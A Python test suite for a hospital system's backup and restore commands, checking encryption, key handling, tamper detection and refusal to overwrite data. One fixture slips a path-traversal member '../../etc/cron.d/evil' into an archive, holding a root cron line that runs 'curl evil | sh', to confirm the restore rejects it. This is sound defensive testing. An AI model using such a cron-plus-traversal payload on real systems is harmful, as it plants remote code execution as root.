"""Backups: ``hms backup`` writes the database and the encrypted files to one archive without
the data key; ``hms restore`` brings them back into a fresh database and data folder and
proves it (counts, the audit chain, decryption); a wrong key or an altered archive is refused
before anything is written. On SQLite and, with ``HMS_TEST_POSTGRES_URL``, on PostgreSQL."""

from __future__ import annotations

import io
import json
import re
import stat
import tarfile
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import sqlalchemy as sa
from cryptography.fernet import Fernet

from hms_app import cli, settings
from hms_app.db import crypto
from hms_app.db import engine as db_engine
from hms_app.db.engine import session_scope
from hms_app.db.enums import Role
from hms_app.db.models import Allergy, AuditEvent, Document, Encounter, Problem
from hms_app.operations import backup
from hms_app.operations.backup import ArchiveDamaged, BackupError, RestoreRefused, WrongDataKey
from hms_app.services.care import clinical, documents, prescribing
from hms_app.services.care.clinical import EncounterForm
from hms_app.services.core import audit
from tests.conftest import DEMO_EMAIL, POSTGRES_URL, login_as
from tests.services.appointment_helpers import call
from tests.services.clinical_helpers import (
    medicine_id,
    open_visit,
    pdf_bytes,
    png_bytes,
    use_private_data_dir,
    with_reference_data,
)
from tests.services.helpers import snapshot

pytestmark = pytest.mark.db

MARKER = "OKAPI-5512-NARWHAL"


@pytest.fixture(autouse=True)
def _private_data(monkeypatch, tmp_path):
    yield from use_private_data_dir(monkeypatch, tmp_path)


@dataclass(frozen=True)
class Hospital:
    engine: sa.Engine
    url: str
    encounter_id: int
    allergy_id: int
    problem_id: int
    document_id: int
    document_bytes: bytes
    report_bytes: bytes


@pytest.fixture
def hospital(seeded, database_url, actors) -> Hospital:
    """The demo hospital with a visit's notes, an allergy, a problem, a prescription and two uploaded files."""
    engine = with_reference_data(seeded)
    doctor, maria = actors[Role.DOCTOR], actors[Role.PATIENT].user_id
    encounter_id = open_visit(engine, doctor, maria)
    call(engine, clinical.save_encounter, actor=doctor, encounter_id=encounter_id, form=EncounterForm(
        subjective=f"chest tightness {MARKER}", assessment="stable angina", plan="stress test",
        diagnosis=f"angina {MARKER}", icd10_code="I20.9"))
    allergy_id = call(engine, clinical.add_allergy, actor=doctor, patient_id=maria, substance=f"Latex {MARKER}",
                      reaction="hives", severity="moderate")
    problem_id = call(engine, clinical.add_problem, actor=doctor, patient_id=maria, description=f"Angina {MARKER}")
    call(engine, prescribing.prescribe, actor=doctor, encounter_id=encounter_id, items=[prescribing.ItemForm(
        medicine_id=medicine_id(engine, "atorvastatin"), dose="1 tablet", route="oral", frequency="once daily",
        days=30, instructions=f"At night {MARKER}")])
    data = pdf_bytes(f"ECG report {MARKER}")
    document_id = call(engine, documents.upload_document, actor=doctor, patient_id=maria, title=f"ECG {MARKER}",
                       file_name="ecg.pdf", data=data)
    image = png_bytes(4, 4)
    call(engine, documents.upload_document, actor=doctor, patient_id=maria, title="Rash photo",
         file_name="rash.png", data=image)
    return Hospital(engine, database_url, encounter_id, allergy_id, problem_id, document_id, data, image)


@pytest.fixture
def fresh_url(tmp_path) -> Iterator[str]:
    """The address of a database that does not exist yet (the restore creates it); dropped afterwards."""
    if not POSTGRES_URL:
        yield f"sqlite:///{tmp_path / 'restored' / 'hms.db'}"
        return
    name = f"hms_restore_{uuid.uuid4().hex[:12]}"
    yield sa.make_url(POSTGRES_URL).set(database=name).render_as_string(hide_password=False)
    admin = sa.create_engine(POSTGRES_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    admin.dispose()


def move_to_new_data_dir(monkeypatch, tmp_path: Path, key_lines: list[bytes] | None) -> Path:
    """A fresh data folder, as on the machine restored to: the key put back by hand, or none."""
    data = tmp_path / "restored-data"
    data.mkdir()
    monkeypatch.setattr(settings, "DATA_DIR", data)
    monkeypatch.setattr(settings, "FILES_DIR", data / "files")
    if key_lines is not None:
        (data / "hms.key").write_bytes(b"\n".join(key_lines) + b"\n")
        (data / "hms.key").chmod(0o600)
    crypto.reset_cipher()
    return data


def database_exists_with_tables(url: str) -> bool:
    parsed = sa.make_url(url)
    if parsed.get_backend_name() == "sqlite":
        path = Path(parsed.database)
        if not path.exists():
            return False
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    try:
        with engine.connect() as conn:
            return bool(sa.inspect(conn).get_table_names())
    except sa.exc.OperationalError:
        return False  # no such PostgreSQL database
    finally:
        engine.dispose()


def take_backup(hospital: Hospital, tmp_path: Path) -> backup.BackupReport:
    folder = tmp_path / "backups"
    folder.mkdir(exist_ok=True)
    return backup.create_backup(output=folder, database_url=hospital.url)


def count(engine: sa.Engine, table) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()


def audit_rows(engine: sa.Engine, up_to: int) -> list[tuple]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(sa.select(AuditEvent).order_by(AuditEvent.id).limit(up_to))]


# --- backing up and restoring -----------------------------------------------------------------------


def test_a_backup_restores_into_a_fresh_database_and_data_folder_whole(hospital, tmp_path, monkeypatch, fresh_url):
    key = crypto.key_file().read_bytes()
    made = take_backup(hospital, tmp_path)

    assert stat.S_IMODE(made.archive.stat().st_mode) == 0o600
    with tarfile.open(made.archive) as tar:
        names = tar.getnames()
        unpacked = b"".join(tar.extractfile(m).read() for m in tar.getmembers())
        manifest = json.loads(tar.extractfile(backup.MANIFEST).read())
    database_member = backup.SQLITE_MEMBER if not POSTGRES_URL else backup.PGDUMP_MEMBER
    assert sorted(n for n in names if not n.startswith("files/")) == sorted(
        [database_member, backup.MANIFEST, backup.MANIFEST_MAC])
    assert len([n for n in names if n.startswith("files/")]) == made.files == 2
    assert key.strip() not in unpacked, "the data key is never in the archive"
    assert MARKER.encode() not in unpacked, "clinical text and files stay encrypted in the archive"
    assert manifest["tables"] == made.tables
    assert manifest["tables"]["document"] == 2
    assert manifest["schema_revision"] == made.schema_revision
    assert manifest["audit"]["intact"]
    assert manifest["hms_version"]
    assert manifest["created_at"]
    assert set(manifest["members"]) == {n for n in names if n not in (backup.MANIFEST, backup.MANIFEST_MAC)}

    move_to_new_data_dir(monkeypatch, tmp_path, [key.strip()])
    restored = backup.restore_backup(archive=made.archive, database_url=fresh_url)

    assert restored.ok, restored.problems
    assert restored.tables == made.tables
    assert restored.files == 2
    assert restored.values_decrypted >= 10
    assert restored.files_decrypted == 2
    target = db_engine.create_engine(fresh_url)
    try:
        # Every row of every table as it was (the audit trail compared below, up to the backup).
        assert snapshot(target) == snapshot(hospital.engine)
        assert audit_rows(target, made.audit_rows) == audit_rows(hospital.engine, made.audit_rows)
        with session_scope(write=False, engine=target) as s:
            assert audit.verify_chain(s).ok
            assert s.get(Encounter, hospital.encounter_id).subjective == f"chest tightness {MARKER}"
            assert s.get(Encounter, hospital.encounter_id).diagnosis == f"angina {MARKER}"
            assert s.get(Allergy, hospital.allergy_id).substance == f"Latex {MARKER}"
            assert s.get(Problem, hospital.problem_id).description == f"Angina {MARKER}"
            assert s.get(Document, hospital.document_id).title == f"ECG {MARKER}"
            restore_row = s.execute(sa.select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).scalar_one()
        assert (restore_row.action, restore_row.actor_email) == ("backup.restore", "system")
        doctor = login_as(target, DEMO_EMAIL[Role.DOCTOR])
        downloaded = call(target, documents.download_document, actor=doctor, document_id=hospital.document_id)
        assert downloaded.data == hospital.document_bytes
        assert (downloaded.file_name, downloaded.content_type) == ("ecg.pdf", "application/pdf")
    finally:
        target.dispose()
    with session_scope(write=False, engine=hospital.engine) as s:
        assert s.execute(sa.select(AuditEvent.action).where(AuditEvent.action == "backup.create")).scalar_one()


def test_the_commands_back_up_restore_and_say_how_to_keep_the_key(hospital, tmp_path, monkeypatch, fresh_url,
                                                                  capsys):
    monkeypatch.setattr(settings, "DATABASE_URL", hospital.url)
    key = crypto.key_file().read_bytes().strip()
    (tmp_path / "out").mkdir()
    assert cli.main(["backup", "-o", str(tmp_path / "out")]) == 0
    said = capsys.readouterr().out
    [archive] = (tmp_path / "out").iterdir()
    assert f"backup written: {archive}" in said
    assert "The data key is NOT in this archive" in said
    assert f"key file {crypto.key_file()} (fingerprint {backup.key_fingerprint(key)})" in said
    assert "apart from the archives" in said
    assert "password manager" in said
    assert key.decode() not in said, "the key itself is never printed"

    assert cli.main(["restore", str(archive)]) == 1
    assert "Refusing to restore over data" in capsys.readouterr().err

    move_to_new_data_dir(monkeypatch, tmp_path, [key])
    monkeypatch.setattr(settings, "DATABASE_URL", fresh_url)
    assert cli.main(["restore", "--check", str(archive)]) == 0
    assert "archive intact and the data key fits" in capsys.readouterr().out
    assert not database_exists_with_tables(fresh_url), "--check writes nothing"
    assert cli.main(["restore", str(archive)]) == 0
    said = capsys.readouterr().out
    assert "verified:" in said
    assert "audit chain of" in said
    assert "2 of 2 files decrypt" in said


def test_a_backup_taken_while_the_hospital_keeps_writing_is_one_consistent_moment(hospital, actors, tmp_path,
                                                                                  monkeypatch, fresh_url):
    doctor, maria = actors[Role.DOCTOR], actors[Role.PATIENT].user_id
    stop, written = threading.Event(), []
    problems_before = count(hospital.engine, Problem)

    def keep_writing():
        while not stop.is_set():
            written.append(call(hospital.engine, clinical.add_problem, actor=doctor, patient_id=maria,
                                description=f"Problem {len(written)}"))

    writer = threading.Thread(target=keep_writing)
    writer.start()
    try:
        while len(written) < 3:
            threading.Event().wait(0.01)
        made = take_backup(hospital, tmp_path)
    finally:
        stop.set()
        writer.join()
    assert 3 <= made.tables["problem"] - problems_before <= len(written)

    key = crypto.key_file().read_bytes().strip()
    move_to_new_data_dir(monkeypatch, tmp_path, [key])
    restored = backup.restore_backup(archive=made.archive, database_url=fresh_url)
    assert restored.ok, restored.problems  # rows per table and the audit chain's end match the manifest


def test_restoring_over_data_needs_force_and_keeps_the_old_aside(hospital, tmp_path):
    made = take_backup(hospital, tmp_path)
    with pytest.raises(RestoreRefused, match="Refusing to restore over data"):
        backup.restore_backup(archive=made.archive, database_url=hospital.url)
    hospital.engine.dispose()
    restored = backup.restore_backup(archive=made.archive, database_url=hospital.url, force=True)
    assert restored.ok, restored.problems
    aside = {p.name.split(".before-restore-")[0] for p in restored.kept_aside}
    assert aside == ({"files"} if POSTGRES_URL else {"hms.db", "files"})
    assert len(list(settings.FILES_DIR.iterdir())) == 2


# --- refusals: nothing is written -----------------------------------------------------------------


def assert_nothing_restored(url: str) -> None:
    assert not database_exists_with_tables(url)
    assert not settings.FILES_DIR.exists()
    assert not [p for p in settings.DATA_DIR.iterdir() if p.name != "hms.key"], "no staging left behind"


def test_a_wrong_key_is_refused_before_anything_is_written(hospital, tmp_path, monkeypatch, fresh_url):
    made = take_backup(hospital, tmp_path)
    wrong = Fernet.generate_key()
    move_to_new_data_dir(monkeypatch, tmp_path, [wrong])
    with pytest.raises(WrongDataKey) as refused:
        backup.restore_backup(archive=made.archive, database_url=fresh_url)
    message = refused.value.message
    assert "is not the key this backup was made with" in message
    assert backup.key_fingerprint(wrong) in message
    assert made.key_fingerprints[0] in message
    assert "Nothing was restored" in message
    assert_nothing_restored(fresh_url)


def test_a_missing_key_is_refused_and_no_new_key_is_made(hospital, tmp_path, monkeypatch, fresh_url):
    made = take_backup(hospital, tmp_path)
    data = move_to_new_data_dir(monkeypatch, tmp_path, None)
    with pytest.raises(WrongDataKey, match="No data key: HMS_DATA_KEY is not set and there is no key file"):
        backup.restore_backup(archive=made.archive, database_url=fresh_url)
    assert not (data / "hms.key").exists(), "a new key would never decrypt the backup"
    assert_nothing_restored(fresh_url)


def test_the_key_from_the_environment_restores_too(hospital, tmp_path, monkeypatch, fresh_url):
    made = take_backup(hospital, tmp_path)
    key = crypto.key_file().read_bytes().strip()
    move_to_new_data_dir(monkeypatch, tmp_path, None)
    monkeypatch.setattr(settings, "DATA_KEY", f"{Fernet.generate_key().decode()},{key.decode()}")
    crypto.reset_cipher()
    restored = backup.restore_backup(archive=made.archive, database_url=fresh_url)
    assert restored.ok, restored.problems


def rewrite(archive: Path, change) -> None:
    """Rewrite the archive's members through ``change(name, data) -> data | None`` (None drops one)."""
    with tarfile.open(archive) as tar:
        members = [(m.name, tar.extractfile(m).read()) for m in tar.getmembers()]
    with tarfile.open(archive, "w:gz") as tar:
        for name, data in members:
            for new_name, new_data in change(name, data):
                info = tarfile.TarInfo(new_name)
                info.size = len(new_data)
                tar.addfile(info, io.BytesIO(new_data))


def flip_last_byte(data: bytes) -> bytes:
    return data[:-1] + bytes([data[-1] ^ 1])


def _in_a_stored_file(name, data):
    yield name, flip_last_byte(data) if name.startswith("files/") else data


def _in_the_database(name, data):
    yield name, flip_last_byte(data[:-200]) + data[-200:] if name.startswith("database/") else data


def _a_count_in_the_manifest(name, data):
    if name == backup.MANIFEST:
        manifest = json.loads(data)
        manifest["tables"]["payment"] += 1
        data = json.dumps(manifest).encode()
    yield name, data


def _a_file_dropped(name, data):
    if not name.startswith("files/"):
        yield name, data


def _a_file_slipped_in(name, data):
    yield name, data
    if name == backup.MANIFEST:
        yield "../../etc/cron.d/evil", b"* * * * * root sh -c 'curl evil | sh'\n"


@pytest.mark.parametrize(("change", "message"), [
    (_in_a_stored_file, r"files/[0-9a-f]{32} in .* was altered"),
    (_in_the_database, r"database/hms\.\w+ in .* was altered"),
    (_a_count_in_the_manifest, "manifest .* was altered after the backup was made"),
    (_a_file_dropped, r"files/[0-9a-f]{32} in .* is missing"),
    (_a_file_slipped_in, "is not an HMS backup, or was altered: it holds '../../etc/cron.d/evil'"),
])
def test_an_altered_archive_is_refused_before_anything_is_written(hospital, tmp_path, monkeypatch, fresh_url,
                                                                   change, message):
    made = take_backup(hospital, tmp_path)
    rewrite(made.archive, change)
    move_to_new_data_dir(monkeypatch, tmp_path, [crypto.current_keys()[0]])
    with pytest.raises(ArchiveDamaged, match=message):
        backup.restore_backup(archive=made.archive, database_url=fresh_url)
    assert_nothing_restored(fresh_url)


def test_a_truncated_archive_is_refused(hospital, tmp_path, monkeypatch, fresh_url):
    made = take_backup(hospital, tmp_path)
    data = made.archive.read_bytes()
    made.archive.write_bytes(data[: len(data) // 2])
    move_to_new_data_dir(monkeypatch, tmp_path, [crypto.current_keys()[0]])
    with pytest.raises(ArchiveDamaged, match="is damaged or not an HMS backup"):
        backup.restore_backup(archive=made.archive, database_url=fresh_url)
    assert_nothing_restored(fresh_url)


# --- refusals when backing up ---------------------------------------------------------------------


def test_a_backup_fails_rather_than_miss_a_file_the_database_names(hospital, tmp_path):
    with session_scope(write=False, engine=hospital.engine) as s:
        name = s.get(Document, hospital.document_id).storage_name
    (settings.FILES_DIR / name).unlink()
    with pytest.raises(BackupError, match=re.escape(f"not in {settings.FILES_DIR}")):
        take_backup(hospital, tmp_path)
    assert not list((tmp_path / "backups").iterdir()), "no archive, no partial file"


def test_a_backup_fails_when_the_key_in_use_does_not_decrypt_the_database(hospital, tmp_path, monkeypatch):
    monkeypatch.setattr(settings, "DATA_KEY", Fernet.generate_key().decode())
    crypto.reset_cipher()
    with pytest.raises(BackupError, match="does not decrypt the database"):
        take_backup(hospital, tmp_path)
    assert not list((tmp_path / "backups").iterdir())


def test_a_backup_never_overwrites_an_archive(hospital, tmp_path):
    made = take_backup(hospital, tmp_path)
    with pytest.raises(BackupError, match="backups are never overwritten"):
        backup.create_backup(output=made.archive, database_url=hospital.url)
